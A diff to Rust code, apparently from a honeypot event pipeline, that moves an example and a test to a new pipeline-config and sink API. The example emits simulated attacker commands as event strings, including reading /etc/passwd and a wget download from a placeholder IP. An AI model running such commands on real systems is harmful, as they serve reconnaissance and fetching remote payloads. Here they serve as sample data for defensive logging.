@@ -164,11 +164,10 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
 
     let out = std::env::temp_dir().join("hpti-custom-sink-example");
     let sink = Arc::new(DailyJsonlSink::new(&out, 100_000));
-    let config = PipelineConfig {
-        dead_letter_path: out.join("dead-letters.jsonl"),
-        ..PipelineConfig::default()
-    };
-    let pipeline = Pipeline::builder(config).sink(sink).start()?;
+    let config = PipelineConfig::with_dead_letter_path(out.join("dead-letters.jsonl"));
+    let pipeline = Pipeline::builder(config)
+        .sink(hpti_core::component::ComponentId::new("daily")?, sink)
+        .start()?;
     let emitter = pipeline.emitter();
     for command in ["uname -a", "cat /etc/passwd", "wget http://203.0.113.5/x"] {
         let event = Event::new(
@@ -232,11 +231,14 @@ mod tests {
         use hpti_core::pipeline::{Pipeline, PipelineConfig};
         let dir = tempfile::tempdir().unwrap();
         let sink = Arc::new(DailyJsonlSink::new(dir.path().join("out"), 10));
-        let config = PipelineConfig {
-            dead_letter_path: dir.path().join("dlq.jsonl"),
-            ..PipelineConfig::default()
-        };
-        let pipeline = Pipeline::builder(config).sink(sink).start().unwrap();
+        let config = PipelineConfig::with_dead_letter_path(dir.path().join("dlq.jsonl"));
+        let pipeline = Pipeline::builder(config)
+            .sink(
+                hpti_core::component::ComponentId::new("daily").unwrap(),
+                sink,
+            )
+            .start()
+            .unwrap();
         let emitter = pipeline.emitter();
         emitter
             .emit(event(0).with_time(Timestamp::now()))
